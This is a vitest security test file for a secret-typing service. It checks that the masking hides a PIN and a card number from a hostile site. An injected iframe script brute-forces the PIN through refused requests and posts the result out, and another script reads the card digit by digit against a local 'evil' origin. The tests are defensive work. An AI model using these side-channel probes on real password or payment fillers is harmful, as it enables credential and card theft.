import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Site,
  startSite,
  startTypingService,
  type TypingService,
} from './typed-secrets.test-helpers.ts';

const pin = '4711';
const card = '4929123456781234';

/** Tries every number in a request of its own, and reports which of them did not arrive, in a form that no mask looks for. */
const probe = `<script>
  const isTime = async () => (await (await fetch('/is-time')).text()) === 'yes';
  const wait = () => new Promise((resolve) => setTimeout(resolve, 20));
  (async () => {
    while (!(await isTime())) await wait();
    const stopped = [];
    for (let number = 4700; number < 4800; number += 1) {
      try { await fetch('/try?number=' + number); } catch { stopped.push(number * 3); }
    }
    await fetch('/report', { method: 'POST', body: stopped.join() });
  })();
</script>`;

describe('what the mask gives away', { tags: ['security', 'extended'] }, () => {
  let own: Site;
  let evil: Site;
  let typing: TypingService;

  beforeAll(async () => {
    own = await startSite('127.0.0.1', ({ path, raw }, response) => {
      if (path === '/pin')
        return void response.end(`<label>Pin <input></label><iframe src="${evil.origin}/ad"></iframe><script>
          document.querySelector('input').oninput = () => fetch('/typed', { method: 'POST', body: 'yes' });</script>`);
      response.end(raw.method === 'GET' ? '<label>Number <input></label>' : '');
    });
    evil = await startSite('127.0.0.2', ({ path }, response) => {
      const isTyped = own.received.some((request) => request.path === '/typed');
      if (path === '/is-time') return void response.end(isTyped ? 'yes' : 'no');
      if (path === '/ad') return void response.end(probe);
      if (path === '/result')
        return void response.end(evil.received.find((request) => request.path === '/report')?.body ?? 'none');
      const numbers = new URL(path, 'http://evil').searchParams.get('list')?.split(',') ?? [];
      response.end(numbers.map((number) => `<p>${number}</p>`).join(''));
    });
    typing = await startTypingService([own, evil]);
  });
  afterAll(async () => {
    await typing?.service.close();
    await own?.[Symbol.asyncDispose]();
    await evil?.[Symbol.asyncDispose]();
  });

  const secretOf = (value: string) => ({
    credential_type: 'secret',
    credential: { secret_value: value },
    allowed_hosts: [own.origin],
  });
  const fill = (path: string, name: string) => `
    await page.goto('${own.origin}${path}');
    const field = (await page.elements()).find((each) => each.name === '${name}');
    await page.fill(field.id, login.secret_value);`;

  it('a frame of another site cannot read a PIN by trying which of its own requests are refused', async () => {
    const { status, reason, output } = await typing.run(
      `${fill('/pin', 'Pin')}
       for (;;) {
         const result = await (await fetch('${evil.origin}/result')).text();
         if (result !== 'none') return result;
         await sleep(50);
       }`,
      secretOf(pin),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(evil.received.filter(({ path }) => path.startsWith('/try')).length).toBeGreaterThan(90);
    expect(output).not.toBe(String(Number(pin) * 3));
  });

  it('a program cannot read the number of a card digit by digit on a page of its own', async () => {
    const { status, reason, output } = await typing.run(
      `${fill('/number', 'Number')}
       await page.press('Backspace');
       let read = '${card.slice(0, 7)}';
       while (read.length < 15) {
         const guesses = Array.from({ length: 10 }, (_, digit) => read + digit);
         await page.goto('${evil.origin}/digits?list=' + guesses.join());
         const shown = await page.text();
         const hidden = guesses.filter((guess, digit) => !shown.includes(guess) && !shown.includes('[secret]' + digit));
         if (hidden.length !== 1) break;
         read = hidden[0];
       }
       return [...read].map(Number);`,
      secretOf(card),
    );
    expect({ status, reason }).toEqual({ status: 'completed', reason: null });
    expect(evil.received.some(({ path }) => path.startsWith('/digits'))).toBe(true);
    expect(output.join('')).toBe(card.slice(0, 7));
  });
});
